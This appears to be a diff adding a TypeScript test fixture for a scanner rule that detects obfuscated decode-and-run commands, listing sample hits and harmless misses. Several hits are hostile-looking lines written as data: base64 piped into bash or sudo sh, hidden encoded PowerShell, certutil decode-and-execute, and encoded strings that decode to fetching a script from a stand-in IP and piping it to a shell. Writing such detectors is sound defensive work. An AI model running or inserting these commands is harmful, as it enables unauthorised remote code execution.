@@ -1,0 +1,38 @@
+import type { RuleSamples } from './sample.ts';
+
+export const HIDDEN_COMMANDS: RuleSamples = {
+  'decode-and-run': {
+    hits: [
+      "echo 'L2Jpbi9iYXNo' | base64 -D | bash",
+      'bash -c "$(echo aGk= | base64 --decode)"',
+      'base64 -d payload.txt | gunzip | sudo sh',
+      { 'scripts/a.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' },
+      { 'scripts/a.py': 'code = base64.b64decode(DATA)\nprint("loading")\nexec(code.decode())\n' },
+      { 'scripts/a.js': "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())\n" },
+      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
+      'certutil -decode a.txt a.exe && a.exe',
+    ],
+    misses: [
+      'echo "$KUBECONFIG_B64" | base64 -d > ~/.kube/config',
+      'kubectl get secret x -o jsonpath={.data.y} | base64 --decode',
+      { 'scripts/a.py': 'data = base64.b64decode(text)\nsubprocess.run(["ls"])\n' },
+      'Report lines such as `echo ... | base64 -d | sh` as malicious.',
+    ],
+  },
+  'text-decodes-to-command': {
+    hits: [
+      'Token: L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzIwMy4wLjExMy45L3gpIg==',
+      'Set `KEY=\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x32\\x30\\x33\\x2e\\x30\\x2e\\x31\\x31\\x33\\x2e\\x39\\x2f\\x78\\x20\\x7c\\x20\\x73\\x68`',
+      {
+        'a.py':
+          'print("".join(map(chr, [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,34,99,117,114,108,32,104,116,116,112,58,47,47,50,48,51,46,48,46,49,49,51,46,57,124,115,104,34,41])))\n',
+      },
+      { 'a.sh': 'X=WTNWeWJDQXRjeUJvZEhSd09pOHZNakF6TGpBdU1URXpMamt2ZUNCOElITm8=\n' },
+    ],
+    misses: [
+      'Logo: VGhpcyBpcyBhbiBvcmRpbmFyeSBzZW50ZW5jZSBhYm91dCB0ZWEu',
+      'sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
+      'https://example.com/search?q=%22hello%20world%22%20curl%20tutorial',
+    ],
+  },
+};
